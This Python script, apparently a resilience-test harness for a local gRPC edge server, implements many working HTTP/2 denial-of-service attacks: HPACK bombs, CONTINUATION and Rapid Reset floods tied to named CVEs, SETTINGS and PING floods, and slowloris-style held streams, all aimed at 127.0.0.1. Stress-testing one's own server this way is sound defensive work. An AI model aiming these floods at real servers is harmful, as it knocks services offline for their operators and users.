#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""The attacks of edge_abuse.py, each a process of its own: edge_attacks.py NAME PORT SECONDS CONNECTIONS SEED [TOKEN].

Those that are loud hammer a few connections; those that are silent hold many. What was sent is counted and printed as
one line of JSON in the end. An attacker who is cut off comes back at once.
"""
import collections
import json
import os
import random
import struct
import sys
import threading
import time

import h2_wire as h2
from h2_wire import Gone, Link

WHO = b"/tagih.v1.SessionService/WhoAmI"
LIST = b"/tagih.v1.AccountService/ListAccounts"
LOUD_LINKS = 3
STREAMS_EACH = 32  # what the edge allows a connection


class Target:
    """Where to, from where, for how long, with which token; and what has been sent."""

    def __init__(self, port, seconds, connections, seed, token):
        self.address, self.source = ("127.0.0.1", port), "127.0.0.2"
        self.until = time.monotonic() + seconds
        self.connections, self.token = connections, token
        self.random = random.Random(seed)
        self.counts = collections.Counter()

    def lasts(self):
        return time.monotonic() < self.until


def loud(burst, read=True, hello=h2.PREFACE + h2.settings()):
    """An attack out of `burst(target, link)`: the bytes to send next and how many faults they are."""
    def one(target):
        while target.lasts():
            try:
                link = Link(target, hello)
                target.counts["connections"] += 1
                while target.lasts():
                    data, faults = burst(target, link)
                    link.send(data)
                    target.counts["frames"] += faults
                    if read:
                        link.drain()
                link.close()
            except Gone:
                target.counts["cut off"] += 1

    def run(target):
        threads = [threading.Thread(target=one, args=(target,)) for _ in range(LOUD_LINKS)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    return run


def held(opening, step, tls=True, hello=h2.PREFACE + h2.settings(), times=1):
    """An attack that opens as many connections as it may and then lets `step(target, link, tick)` say a word a second."""
    def open_all(target, links, share):
        for _ in range(share):
            if not target.lasts():
                return
            try:
                link = Link(target, hello, tls)
                target.counts["connections"] += 1
                data = opening(target, link)
                if data:
                    link.send(data)
                links.append(link)
            except Gone:
                target.counts["cut off"] += 1

    def run(target):
        links, tick = [], 0
        threads = [threading.Thread(target=open_all, args=(target, links, times * target.connections // 4)) for _ in range(4)]
        for thread in threads:
            thread.start()
        while target.lasts():
            began = time.monotonic()
            for link in list(links):
                try:
                    data = step(target, link, tick)
                    if data:
                        link.send(data)
                        target.counts["drops"] += 1
                except Gone:
                    target.counts["cut off"] += 1
                    links.remove(link)
                if not target.lasts():
                    break
            tick += 1
            time.sleep(max(0.0, min(1.0 - (time.monotonic() - began), target.until - time.monotonic())))
        for thread in threads:
            thread.join()
        for link in links:
            link.close()
    return run


# ---- headers --------------------------------------------------------------------------------------------------------


def hpack_references(target, link):
    """A header of 3.9 kB put into the table once, then named 8 000 times in 8 kB: 31 MB to whoever copies."""
    block = h2.call_headers(WHO, None, h2.literal(b"x", b"y" * 3900, keep=True), h2.indexed(62) * 8000)
    return h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, link.stream(), block), 8000


def hpack_strings(target, link):
    """A string that says it is 37 MB, or 2 GiB, or longer than any number, and goes on and on."""
    length = target.random.choice([37_500_000, 1 << 31, (1 << 31) - 1, 1 << 62, 1 << 80])
    head = h2.call_headers(WHO) + b"\x00" + h2.string(b"x") + h2.integer(length, 7)
    stream = link.stream()
    data = h2.frame(h2.HEADERS, 0, stream, head)
    return data + h2.frame(h2.CONTINUATION, 0, stream, b"y" * 16000) * 8, 9


def hpack_table(target, link):
    """Table sizes that jump from nothing to 4 GiB, indexes that are not there, Huffman codes of nothing but padding."""
    nonsense = [h2.integer(0, 5, 0x20) + h2.integer((1 << 32) - 1, 5, 0x20), h2.indexed(0), h2.indexed(1 << 30),
                b"\x00\x81\xff\x84\xff\xff\xff\xff", h2.integer(4096, 5, 0x20) * 2000]
    block = target.random.choice(nonsense) + h2.call_headers(WHO)
    return h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, link.stream(), block), 1


def continuation_flood(target, link):
    """Headers that never end, in frames that are small, large, or empty (CVE-2024-27316 and its kin)."""
    if link.next_stream == 1:
        return h2.frame(h2.HEADERS, 0, link.stream(), h2.call_headers(WHO)), 1
    one = target.random.choice([b"", h2.literal(b"a", b"b"), h2.literal(b"a", b"b" * 4000)])
    return h2.frame(h2.CONTINUATION, 0, 1, one) * 200, 200


# ---- streams --------------------------------------------------------------------------------------------------------


def rapid_reset(target, link):
    """Calls that are taken back in the same breath (CVE-2023-44487)."""
    out = b""
    for _ in range(100):
        stream = link.stream()
        out += h2.frame(h2.HEADERS, h2.END_HEADERS, stream, h2.call_headers(WHO, target.token))
        out += h2.frame(h2.DATA, h2.END_STREAM, stream, h2.message()) + h2.reset(stream)
    return out, 100


def made_to_reset(target, link):
    """The same from behind: frames that make the server reset the stream (a window that overflows; CVE-2025-8671)."""
    out = b""
    for _ in range(50):
        stream = link.stream()
        out += h2.frame(h2.HEADERS, h2.END_HEADERS, stream, h2.call_headers(WHO, target.token))
        out += h2.window_update(stream, (1 << 31) - 1) + h2.frame(h2.DATA, h2.END_STREAM, stream, h2.message())
    return out, 50


def priority_trees(target, link):
    """Dependencies on nobody, on itself, and in chains that are turned over again and again."""
    out, base = b"", link.next_stream
    for i in range(200):
        stream, parent = base + 2 * i, target.random.choice([0, base, base + 2 * i - 2, base + 398, base + 2 * i])
        out += h2.priority(stream, max(parent, 0), target.random.randrange(256), True)
    link.next_stream += 2 * target.random.randrange(3)
    return out, 200


def bad_messages(target, link):
    """Messages that say they are 2 GiB, that are a byte too long, compressed, of flags that there are not, or two in one."""
    stream = link.stream()
    body = target.random.choice([h2.message(length=1 << 31), h2.message(length=(1 << 32) - 1), h2.message(length=(1 << 20) + 1),
                                 h2.message(b"abc", flag=1), h2.message(b"abc", flag=255), h2.message() + h2.message(), b"\0\0"])
    return (h2.frame(h2.HEADERS, h2.END_HEADERS, stream, h2.call_headers(WHO, target.token)) +
            h2.frame(h2.DATA, h2.END_STREAM, stream, body)), 1


def empty_frames(target, link):
    """A body of nothing, in as many frames as fit (CVE-2019-9518)."""
    if link.next_stream == 1:
        return h2.frame(h2.HEADERS, h2.END_HEADERS, link.stream(), h2.call_headers(WHO, target.token)), 1
    padding = target.random.choice([h2.frame(h2.DATA, 0, 1), h2.frame(h2.DATA, h2.PADDED, 1, b"\xff" + bytes(255))])
    return padding * 200, 200


# ---- the connection -------------------------------------------------------------------------------------------------


def settings_flood(target, link):
    """Each must be acknowledged (CVE-2019-9515); nobody reads the acknowledgements."""
    pairs = [(h2.INITIAL_WINDOW, target.random.randrange(1 << 31)), (h2.HEADER_TABLE_SIZE, target.random.randrange(1 << 32)),
             (0xABCD, 1)]
    return h2.settings(*pairs) * 200, 200


def ping_flood(target, link):
    """Each must be answered (CVE-2019-9512); nobody reads the answers."""
    return h2.frame(h2.PING, payload=os.urandom(8)) * 200, 200


def nonsense(target, link):
    """Bytes, frames of kinds that are not there, lengths that lie, streams from behind."""
    pick = target.random.randrange(6)
    if pick == 0:
        return target.random.randbytes(200), 1
    if pick == 1:
        return h2.frame(target.random.randrange(10, 256), 255, target.random.randrange(1 << 31), b"x" * 50) * 50, 50
    if pick == 2:
        return h2.frame(h2.HEADERS, 4, link.stream(), b"x", length=(1 << 24) - 1), 1
    if pick == 3:
        return h2.frame(h2.PUSH_PROMISE, 4, 1, struct.pack(">I", 2)) + h2.frame(h2.HEADERS, 5, 2, h2.call_headers(WHO)), 2
    if pick == 4:
        return h2.frame(h2.DATA, h2.PADDED, link.stream(), b"\xff"), 1
    return h2.window_update(0, 0) + h2.window_update(0, (1 << 31) - 1), 2


def never_acks(target, link, tick):
    """Nobody ever acknowledges the server's SETTINGS, and opens more streams than they allow."""
    data = b"".join(h2.call(link.stream(), WHO, target.token) for _ in range(100 if tick == 0 else 10))
    link.drain()
    target.counts["calls"] += 100 if tick == 0 else 10
    return data


# ---- slow and silent ------------------------------------------------------------------------------------------------


def whole_calls(n, path=WHO):
    def opening(target, link):
        target.counts["calls"] += n
        return b"".join(h2.call(link.stream(), path, target.token) for _ in range(n))
    return opening


def one_more_byte(target, link, tick):
    """A window that grows by one byte a second, for every stream."""
    if tick % 4 == 0:
        link.drain()
    return b"".join(h2.window_update(1 + 2 * i, 1) for i in range(STREAMS_EACH))


def begun_headers(target, link):
    return h2.frame(h2.HEADERS, h2.END_HEADERS, link.stream(), b"", length=400)


def header_byte(target, link, tick):
    block = h2.call_headers(WHO, target.token)
    return block[tick % len(block):][:1]


def begun_bodies(target, link):
    """As many calls as a connection may have, each of which says that a mebibyte comes."""
    out = b""
    for _ in range(STREAMS_EACH):
        stream = link.stream()
        out += h2.frame(h2.HEADERS, h2.END_HEADERS, stream, h2.call_headers(WHO, target.token))
        out += h2.frame(h2.DATA, 0, stream, h2.message(length=1 << 20))
    target.counts["calls"] += STREAMS_EACH
    return out


def body_byte(target, link, tick):
    return b"".join(h2.frame(h2.DATA, 0, 1 + 2 * i, b"x") for i in range(STREAMS_EACH))


def calls_left_open(target, link):
    """Whole requests whose sending side is never closed."""
    out = b""
    for _ in range(STREAMS_EACH):
        stream = link.stream()
        out += h2.frame(h2.HEADERS, h2.END_HEADERS, stream, h2.call_headers(WHO, target.token))
        out += h2.frame(h2.DATA, 0, stream, h2.message())
    target.counts["calls"] += STREAMS_EACH
    return out


def headers_alone(target, link):
    """Calls of which only the headers ever come."""
    target.counts["calls"] += STREAMS_EACH
    return b"".join(h2.frame(h2.HEADERS, h2.END_HEADERS, link.stream(), h2.call_headers(WHO, target.token))
                    for _ in range(STREAMS_EACH))


def nothing(*_):
    return b""


NO_WINDOW = h2.PREFACE + h2.settings((h2.INITIAL_WINDOW, 0))
ONE_BYTE = h2.PREFACE + h2.settings((h2.INITIAL_WINDOW, 1))

ATTACKS = {
    "hpack references": loud(hpack_references),
    "hpack strings": loud(hpack_strings),
    "hpack tables": loud(hpack_table),
    "continuation flood": loud(continuation_flood),
    "rapid reset": loud(rapid_reset),
    "made to reset": loud(made_to_reset),
    "priority trees": loud(priority_trees),
    "bad messages": loud(bad_messages),
    "empty frames": loud(empty_frames),
    "settings flood": loud(settings_flood, read=False),
    "ping flood": loud(ping_flood, read=False),
    "nonsense": loud(nonsense),
    "never acks": held(nothing, never_acks),
    "zero window": held(whole_calls(STREAMS_EACH), nothing, hello=NO_WINDOW),
    "window of one byte": held(whole_calls(STREAMS_EACH), one_more_byte, hello=ONE_BYTE),
    "slow headers": held(begun_headers, header_byte),
    "slow bodies": held(begun_bodies, body_byte),
    "open streams": held(calls_left_open, nothing),
    "headers alone": held(headers_alone, nothing),
    "silent tcp": held(nothing, nothing, tls=False, times=3),
    "silent tls": held(nothing, nothing, hello=None, times=3),
    "silent http/2": held(nothing, nothing, times=3),
}


def main():
    name, port, seconds, connections, seed = sys.argv[1:6]
    token = sys.argv[6].encode() if len(sys.argv) > 6 else None
    target = Target(int(port), float(seconds), int(connections), int(seed), token)
    ATTACKS[name](target)
    print(json.dumps(target.counts), flush=True)


if __name__ == "__main__":
    main()
